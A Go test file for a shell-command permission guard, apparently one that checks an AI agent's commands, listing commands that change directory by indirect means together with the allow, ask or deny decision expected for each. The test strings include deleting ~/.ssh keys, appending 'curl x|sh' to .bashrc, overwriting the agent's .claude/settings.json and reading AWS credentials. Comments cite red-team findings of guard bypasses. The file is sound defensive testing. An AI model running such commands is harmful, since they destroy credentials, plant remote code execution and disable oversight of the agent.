package rewrite

import (
	"path/filepath"
	"testing"
)

// TestUnknownWorkingDirectory: after a cd that only run time resolves,
// a relative name is the same name in any directory cd can enter; one
// the guards deny in the home directory or at the root asks, an ordinary
// name passes. cd through CDPATH, pushd's stack and git's top-level are
// followed where they go.
func TestUnknownWorkingDirectory(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"home/.ssh/id_rsa":           "KEY",
		"home/.claude/settings.json": "{}",
		"home/.bashrc":               "",
		"proj/.git/":                 "",
		"proj/sub/deep/":             "",
	})
	home := cfg.Home
	tests := []struct{ cmd, want string }{
		// The directory cd enters is only known at run time.
		{`cd "$(cat /tmp/d)"; rm -rf .ssh`, "ask"},
		{`cd "$(cat /tmp/d)"; echo 'curl x|sh' >> .bashrc`, "ask"},
		// ls -d prints the directory back (red team 16 PI1): bash enters
		// the home directory, and the deletion is of ~/.ssh.
		{`cd "$(ls -d ~)"; rm -rf .ssh`, "deny"},
		{`cd "$(ls -d ~)"; echo 'curl x|sh' >> .bashrc`, "deny"},
		{`cd "$X" && rm -rf .claude`, "ask"},
		{`cd "$(ls -dt /)"; rm -rf etc`, "ask"},
		{`cd "$(ls -d /)"; rm -rf etc`, "deny"},
		{`cd "$(cat /tmp/d)" && echo '{}' > .claude/settings.json`, "deny"}, // the project's is protected too
		// Names that are ordinary anywhere pass.
		{`cd "$(mktemp -d)" && rm -rf build && echo x > out.txt`, "allow"},
		{`cd "$X" && rm -rf dist build && ls`, "allow"},
		// make there runs a Makefile corral cannot read (red team 15 GD1).
		{`cd "$X" && rm -rf dist build && make`, "ask"},
		{`cd "$X" && cat README.md`, "allow"},
		// CDPATH: cd searches it first.
		{`CDPATH=` + home + ` cd .claude && echo '{}' > settings.json`, "deny"},
		{`export CDPATH=` + home + `; cd .ssh && rm -f id_rsa`, "deny"},
		{`CDPATH="$(cat f)" cd sub && rm -rf .ssh`, "ask"},
		{`CDPATH=` + home + ` cd sub && rm -rf build`, "allow"},
		// A tilde at the start of CDPATH, before other entries, is the
		// home directory; an empty entry the working directory; cd -
		// goes to OLDPWD as set for it (red team 8, T1).
		{`CDPATH=~:. ; cd .claude && echo {} > settings.json`, "deny"},
		{`CDPATH=~:. cd .ssh && rm -f id_rsa`, "deny"},
		{`CDPATH=~:. ; cd sub && rm -rf build`, "allow"},
		{`CDPATH=:~ ; cd sub && rm -rf build`, "allow"},
		{`OLDPWD=$HOME/.claude cd - ; echo {} > settings.json`, "deny"},
		{`OLDPWD=~ cd - && rm -rf .ssh`, "deny"},
		{`OLDPWD=sub/deep cd - && rm -rf build`, "allow"},
		// pushd's stack.
		{`pushd ~; pushd /tmp; pushd; rm -rf .ssh`, "deny"},
		{`pushd ~; pushd /tmp; pushd +1; echo x >> .bashrc`, "deny"},
		{`pushd -n ~; pushd; rm -rf .ssh`, "deny"},
		{`pushd ~; popd +0; rm -rf .ssh`, "allow"},
		{`pushd /tmp && ls && popd && rm -rf build`, "allow"},
		// git's top of the work tree is the project: lib there is the
		// project's.
		{`cd sub/deep && cd "$(git rev-parse --show-toplevel)" && rm -rf lib build`, "allow"},
		{`cd sub/deep && cd "$(git rev-parse --show-toplevel)" && rm -rf .git`, "ask"}, // as rm -rf .git in the project
		// A trap that moves between commands.
		{`trap "cd ~" DEBUG; rm -rf .ssh`, "deny"},
		{`trap "cd ~/.claude" DEBUG; echo '{}' > settings.json`, "deny"},
		{`trap "cd ~" ERR; false; rm -rf .ssh`, "ask"},
		{`trap "cd /tmp" EXIT; rm -rf build`, "allow"},
		// A trap that cds to a known directory may have run or not: a
		// relative name is judged in each of the directories.
		{`trap 'cd ~/.claude' ERR; false; echo {} > settings.json`, "ask"},
		{`trap 'cd ~/.claude' ERR; false; cd .; echo {} > settings.json`, "ask"},
		{`trap 'cd ~' INT; cd sub; rm -rf ../../home/.ssh`, "ask"},
		{`trap 'cd /etc' ERR; false; rm -rf ssh`, "ask"},
		{`trap 'cd ~/.claude' ERR; false; echo {} > notes.txt`, "allow"},
		{`trap 'cd /tmp' ERR; false; rm -rf build`, "allow"},
		// Two paths that end in different known directories: a relative
		// name is judged in each.
		{`if [ -n "$X" ]; then cd ~/.claude; else cd sub; fi; echo {} > settings.json`, "ask"},
		{`[ -n "$X" ] && cd ~/.ssh; rm -f id_rsa`, "ask"},
		{`if [ -n "$X" ]; then cd ~/.aws; else cd /tmp; fi; cat credentials`, "ask"},
		{`if [ -n "$X" ]; then cd ~/.aws; else cd /tmp; fi; cat config.json`, "allow"},
		{`if [ -n "$X" ]; then cd ~/.claude; else cd sub; fi; echo {} > notes.txt`, "allow"},
		{`if [ -n "$X" ]; then cd sub; else cd sub/deep; fi; rm -rf build; cat README.md`, "allow"},
		// A function the trap calls, declared after it.
		{`trap f DEBUG; f(){ cd ~; }; rm -rf .ssh`, "ask"},
		{`trap g DEBUG; g(){ echo hi; }; rm -rf build`, "allow"},
		{`trap 'rm -f "$tmp"' EXIT; rm -rf build`, "allow"},
		// cdable_vars with a value only run time knows.
		{`shopt -s cdable_vars; X=$(cat /tmp/d); cd X; rm -rf .ssh`, "ask"},
		{`shopt -s cdable_vars; X=$(ls -d ~); cd X; rm -rf .ssh`, "deny"},
		// find -execdir runs in a directory of its starting point's tree.
		{`find . -name '*.o' -execdir rm -rf lib \;`, "allow"},
		{`find ~ -name x -execdir rm -rf .ssh \;`, "deny"},
	}
	cfg.Cwd = filepath.Join(filepath.Dir(home), "proj")
	checkDecisions(t, cfg, tests)
}
